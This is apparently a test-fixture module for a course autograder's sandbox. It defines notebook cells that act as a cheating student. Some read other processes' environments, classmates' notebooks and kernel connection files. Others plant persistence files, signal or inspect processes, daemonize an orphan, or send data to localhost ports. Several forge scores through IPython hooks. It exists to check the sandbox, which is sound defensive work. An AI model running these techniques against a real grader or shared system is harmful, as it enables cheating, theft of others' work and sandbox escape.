"""Cells a student who has read the grader's source adds to a correct notebook to cheat.

Each attack, whenever it succeeds at anything the sandbox must prevent, raises
``RuntimeError("ATTACK SUCCEEDED: ...")``; the grader records that line among the report's
``notebook_errors``, so tests/test_sandbox.py can see what got through. When every attempt is
refused the cells end quietly and the notebook keeps its full score.

The attacks look for their targets the way a student would: the processes in ``/proc``
(command lines, working folders, environments), the folders the grader uses
(``/tmp/course-grade-*``), the instructor's home, and TCP ports on 127.0.0.1. Files they
damage are only ones whose name contains ``classmate`` or that they create themselves, so
a failed sandbox in a test run cannot destroy the repository.
"""

#: Shared helpers, the first added cell of every attack notebook.
HELPERS = r'''
import glob, os, pathlib, pwd, signal, socket, time
_succeeded = []
def _attempt(what, action):
    """Run action(); if it does not raise, the sandbox let ``what`` through."""
    try:
        action()
    except Exception:
        return False
    _succeeded.append(what)
    return True
def _report():
    if _succeeded:
        raise RuntimeError("ATTACK SUCCEEDED: " + "; ".join(_succeeded))
def _processes():
    """(pid, cmdline, cwd, environ) of every process this kernel can inspect."""
    found = []
    for entry in glob.glob("/proc/[0-9]*"):
        try:
            cmdline = pathlib.Path(entry, "cmdline").read_bytes().replace(b"\0", b" ").decode()
        except Exception:
            continue
        try:
            cwd = os.readlink(entry + "/cwd")
        except Exception:
            cwd = None
        try:
            environ = dict(line.split("=", 1) for line in pathlib.Path(entry, "environ")
                           .read_bytes().decode(errors="replace").split("\0") if "=" in line)
        except Exception:
            environ = {}
        found.append((int(entry.rsplit("/", 1)[1]), cmdline, cwd, environ))
    return found
def _homes():
    """Every home folder the kernel can learn of: its own, its user's, the grader's."""
    homes = {os.path.expanduser("~"), pwd.getpwuid(os.getuid()).pw_dir, "/root"}
    homes |= {env["HOME"] for _, _, _, env in _processes() if "HOME" in env}
    return homes
def _ancestors():
    """This kernel's parent, its parent, ... (the grader that started it among them)."""
    found, pid = [], os.getppid()
    while pid > 1 and pid not in found:
        found.append(pid)
        try:
            pid = int(pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
        except Exception:
            break
    return found
def _notebooks(limit_seconds=20.0):
    """Notebooks outside this kernel's folder, in the order an attacker finds them: first
    every folder named on the command line of a process that started this kernel (e.g.
    course grade /path/to/submissions), walked whole; then, only if they hold none, a walk
    bounded in time."""
    started, mine, found, processes = time.monotonic(), os.getcwd(), {}, _processes()
    ancestors = _ancestors()
    named = [word for pid, cmdline, _, _ in processes if pid in ancestors
             for word in cmdline.split() if word.startswith("/") and os.path.isdir(word)
             and word.count("/") > 2]            # not "/", "/tmp" or "/usr": those are bounded
    roots = [word for _, cmdline, _, _ in processes for word in cmdline.split()
             if word.startswith("/")]
    roots += [cwd for _, _, cwd, _ in processes if cwd]
    roots += [*_homes(), "/tmp", "/work", "/home"]
    for root in dict.fromkeys(named + roots):
        if root not in named and found:
            return list(found)
        for folder, subfolders, files in os.walk(root):
            subfolders[:] = [s for s in subfolders if s not in
                             (".venv", ".git", "site-packages", "proc", "node_modules")]
            if root not in named and time.monotonic() - started > limit_seconds:
                return list(found)
            if not folder.startswith(mine):
                found.update((os.path.join(folder, f), None) for f in sorted(files)
                             if f.endswith(".ipynb"))
    return list(found)
'''

#: Writing anywhere that outlives the kernel: the grader's code, the environment, startup files.
WRITE_FILES = r'''
import course, site, sys, sysconfig
def _append(path):
    with open(path, "a") as handle:
        handle.write("\n# changed by a submission\n")
for path in pathlib.Path(course.__file__).parent.rglob("*.py"):
    _attempt(f"appended to {path}", lambda: _append(path))
for folder in {sysconfig.get_paths()["purelib"], sys.prefix, sys.base_prefix}:
    _attempt(f"wrote into {folder}",
             lambda: pathlib.Path(folder, "course_attack.pth").write_text("import os\n"))
# Private copies of these are allowed (tests/test_sandbox.py looks for them outside):
for home in _homes():
    startup = pathlib.Path(home, ".ipython", "profile_default", "startup")
    try:
        startup.mkdir(parents=True, exist_ok=True)
        (startup / "00-course-attack.py").write_text("print('course attack')\n")
    except OSError:
        pass
for folder in ("/tmp", "/dev/shm", "/var/tmp"):
    try:
        pathlib.Path(folder, "course-attack-left-behind").write_text("x")
    except OSError:
        pass
for path in _notebooks():
    if "classmate" in os.path.basename(path):
        _attempt(f"overwrote {path}", lambda: pathlib.Path(path).write_text("{}"))
_report()
'''

#: Reading what belongs to others: classmates' notebooks, the instructor's files and
#: environment, other kernels' connection keys and sockets.
READ_SECRETS = r'''
for home in _homes():
    _attempt(f"read a file in the home {home}",
             lambda: pathlib.Path(home, "instructor_secret.txt").read_text())
for pid, cmdline, cwd, environ in _processes():
    if "COURSE_INSTRUCTOR_SECRET" in environ:
        _succeeded.append(f"read the environment of process {pid}")
        break
for path in sorted(_notebooks(), key=lambda path: "classmate" not in path):
    if _attempt(f"read {os.path.basename(path)}", lambda: pathlib.Path(path).read_bytes()):
        break
if "COURSE_INSTRUCTOR_SECRET" in os.environ:
    _succeeded.append("inherited the grader's environment")
mine = os.path.realpath(os.getcwd())
connection_files = set(glob.glob("/tmp/course-grade-*/kernel*.json"))
connection_files |= {p for home in _homes()
                     for p in glob.glob(home + "/.local/share/jupyter/runtime/*.json")}
for path in connection_files:
    if not os.path.realpath(path).startswith(mine):
        _attempt(f"read the connection file {path}", lambda: pathlib.Path(path).read_text())
def _connect_unix(path):
    client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        client.connect(path)
    finally:
        client.close()
for path in glob.glob("/tmp/course-grade-*/kernel-*"):
    if not os.path.realpath(path).startswith(mine):
        _attempt(f"connected to another kernel's socket {path}", lambda: _connect_unix(path))
_report()
'''

#: Processes: an orphan that outlives grading, signals and ptrace aimed at the grader.
PROCESSES = r'''
import ctypes, sys
session = os.getsid(0)
sandbox_init = 1 if "bwrap" in (pathlib.Path("/proc/1/cmdline").read_text()
                                if os.access("/proc/1/cmdline", os.R_OK) else "") else None
for pid in range(1, 1 << 16):           # before starting any process of our own
    if pid in (os.getpid(), sandbox_init):
        continue
    try:
        if os.getsid(pid) == session:   # this kernel's own threads
            continue
        os.kill(pid, 0)                 # permission to signal, without sending anything
    except Exception:
        continue
    _succeeded.append(f"could signal process {pid}")
    if len(_succeeded) > 3:
        break
class _IOVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(8)
local, remote = _IOVec(ctypes.addressof(buffer), 8), _IOVec(None, 8)
if os.getppid() != sandbox_init:        # ptrace-level access reads the parent's memory:
    libc.process_vm_readv(os.getppid(), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    if ctypes.get_errno() == 14:        # EFAULT (address 0), not EPERM: access was allowed
        _succeeded.append(f"may read the memory of the parent process {os.getppid()}")
if os.fork() == 0:                      # double fork + setsid: the classic daemon escape
    os.setsid()
    if os.fork() == 0:
        try:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)",
                                      "course_attack_orphan"])
        finally:
            os._exit(0)
    os._exit(0)
time.sleep(0.5)
_report()
'''

#: The network: connecting to a listener on the grader's machine.
NETWORK = r'''
def _connect(port):
    client = socket.create_connection(("127.0.0.1", port), timeout=0.2)
    if client.getsockname() == client.getpeername():
        # TCP "simultaneous open": Linux can give the connect() the port it dials as its
        # own source port, and the socket then connects to itself (about 3 runs in 1000
        # of this loop in a fresh network namespace). Nobody outside was reached.
        client.close()
        raise ConnectionRefusedError(f"connected only to itself on port {port}")
    client.sendall(b"stolen answers")
    client.close()
for port in range(47900, 48000):
    _attempt(f"connected to 127.0.0.1:{port}", lambda: _connect(port))
_report()
'''

#: name -> the cells added after the helpers (one notebook each).
ATTACKS = {
    "attack_write_files.ipynb": WRITE_FILES,
    "attack_read_secrets.ipynb": READ_SECRETS,
    "attack_processes.ipynb": PROCESSES,
    "attack_network.ipynb": NETWORK,
}


# -- forging a score: blank notebooks that try to make the grader believe right answers ----------
# Nothing in the kernel is trusted, so the only thing a forger can make the grader read is
# the values a function "returned". Each forgery below computes those values with the
# course's own implementations (the answer a forger would reach for) and slips them in
# through one hook of the kernel. With the grading course tree those implementations only
# raise, so each scores 0; graded against the installed package (tests/test_forgery.py's
# control) each one scores full marks, which shows the hook really ran.

#: The forger's shared part: the course's answer for a case, written as a kernel result.
FORGE_HELPERS = r'''
import json, pathlib, re, sys
from course import _wire
_names = ("sigmoid", "compute_cost", "compute_gradient", "gradient_descent")
def _answer(name, arguments):
    module = __import__("course." + "logis" + "tic", fromlist=["_"])
    returned = getattr(module, name)(*arguments)
    if name == "gradient_descent":                  # the course's history is a dict
        returned = (returned[0], returned[1], list(returned[2]["cost"]))
    return returned
def _forge(name, request_path, index, result_path):
    request = json.loads(pathlib.Path(request_path).read_text())
    arguments = _wire.from_tree(request["cases"][index])
    returned = _answer(name, arguments)            # the full result: arguments sent back too
    pathlib.Path(result_path).write_text(json.dumps({
        "status": "ok", "returned": _wire.to_tree(returned),
        "arguments_after": _wire.to_tree(tuple(arguments))}))
_GRADING_CALL = re.compile(r"^(_course_\w+)\((.*)\)$", re.MULTILINE)
def _arguments(source):
    """(name, request, index, result) of a grading cell, or None."""
    found = _GRADING_CALL.search(source)
    return eval("(" + found.group(2) + ",)") if found else None
'''

#: 1. Replace the grader's callable in the notebook's globals.
FORGE_GLOBALS = r'''
for _name in [n for n in globals() if n.startswith("_course_")]:
    globals()[_name] = _forge
'''

#: 2. An IPython input transformer that rewrites every grading cell into a call to _forge.
FORGE_TRANSFORMER = r'''
def _rewrite(lines):
    return [_GRADING_CALL.sub(r"_forge(\2)", line) for line in lines]
get_ipython().input_transformers_cleanup.append(_rewrite)
'''

#: 3. A post_run_cell event that overwrites the real result with a forged one.
FORGE_POST_RUN_CELL = r'''
def _after(result):
    found = _arguments(result.info.raw_cell)
    if found:
        _forge(*found)
get_ipython().events.register("post_run_cell", _after)
'''

#: 4. An audit hook that reads every compiled cell and swaps the grader's callable for _forge.
FORGE_AUDIT_HOOK = r'''
def _audit(event, arguments):
    if event == "compile" and isinstance(arguments[0], (str, bytes)):
        source = arguments[0].decode() if isinstance(arguments[0], bytes) else arguments[0]
        found = _GRADING_CALL.search(source)
        if found:
            get_ipython().user_ns[found.group(1)] = _forge
sys.addaudithook(_audit)
'''

#: 5. Every exercise hands its work to the course's implementation from a ``_thread`` thread.
FORGE_THREAD_BODIES = {name: f"return _in_thread({name!r}, {args})" for name, args in (
    ("sigmoid", "z"), ("compute_cost", "X, y, w, b"), ("compute_gradient", "X, y, w, b"),
    ("gradient_descent", "X, y, w_in, b_in, alpha, num_iters"))}
FORGE_THREAD = r'''
import _thread
def _in_thread(name, *arguments):
    box, lock = {}, _thread.allocate_lock()
    lock.acquire()
    def work():
        try:
            box["value"] = _answer(name, arguments)
        except BaseException as error:
            box["error"] = error
        lock.release()
    _thread.start_new_thread(work, ())
    lock.acquire()
    if "error" in box:
        raise box["error"]
    return box["value"]
'''

#: name -> the cell added to a blank lesson-01 notebook after FORGE_HELPERS.
FORGERIES = {
    "forge_globals.ipynb": FORGE_GLOBALS,
    "forge_input_transformer.ipynb": FORGE_TRANSFORMER,
    "forge_post_run_cell.ipynb": FORGE_POST_RUN_CELL,
    "forge_audit_hook.ipynb": FORGE_AUDIT_HOOK,
    "forge_thread_hand_off.ipynb": FORGE_THREAD,
}
